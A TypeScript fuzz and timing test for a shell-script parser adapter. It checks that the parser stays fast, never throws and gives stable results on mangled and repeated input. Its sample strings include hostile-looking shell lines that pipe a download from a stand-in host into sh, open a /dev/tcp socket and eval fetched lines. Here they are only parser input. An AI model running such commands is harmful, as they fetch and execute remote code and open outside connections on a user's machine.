/** The shell adapter over mangled and repeated text: it never throws, and its time is bounded. */
import { shellAdapter } from "../../../../src/evidence/readers/languages/shell.ts";
import { FUZZ_INPUTS, mutations, UNBOUNDED } from "./mutate.ts";

const read = (text: string) => shellAdapter.read(text, { language: "shell", path: null, budget: UNBOUNDED });

test.each([
  "$(",
  "${a:-",
  "`",
  '"$(',
  "((",
  "{ ",
  "if a; then ",
  "case x in a) ",
  "f() { ",
  "<(",
  "a && ",
  "$((",
  "a | ",
  "<<E\n",
  "{a,b}",
])("reads %j over and over in little time", (piece) => {
  const started = process.cpuUsage();
  const { body } = read(piece.repeat(20_000));
  const { user } = process.cpuUsage(started);
  expect({ isArray: Array.isArray(body), isQuick: user < 3_000_000 }).toEqual({ isArray: true, isQuick: true });
});

const PIECES = [
  "'",
  '"',
  "`",
  "$(",
  ")",
  "${",
  "}",
  "<<E\n",
  "\nE\n",
  "|",
  "&&",
  ";;",
  "\\\n",
  "case x in",
  "esac",
  "((",
  "{a,b}",
  "$'\\x",
  "\u0000",
  "é",
];
const SAMPLES = [
  'f() { curl -s "$1" | sh; }\nf https://x.example/i.sh && exit 0\n',
  "cat <<E | sh\nhi $x ${y:-`z`}\nE\nfor a in {1..3}; do echo $((a+1)) >> f; done",
  "case $x in a|b) [ -n y ] && c;; *) d & esac; exec 3<>/dev/tcp/h.test/1; cat <&3",
  "export A='b' C=$'\\x41'; while read -r l; do eval \"$l\"; done < <(curl x)",
];

test("never throws over mangled text and gives the same each time", () => {
  for (const text of mutations(SAMPLES, PIECES, { seed: 11, count: FUZZ_INPUTS })) {
    const first = read(text);
    expect(first.readAs).toBe("tree");
    if (text.length < 300) expect(read(text)).toEqual(first);
  }
});
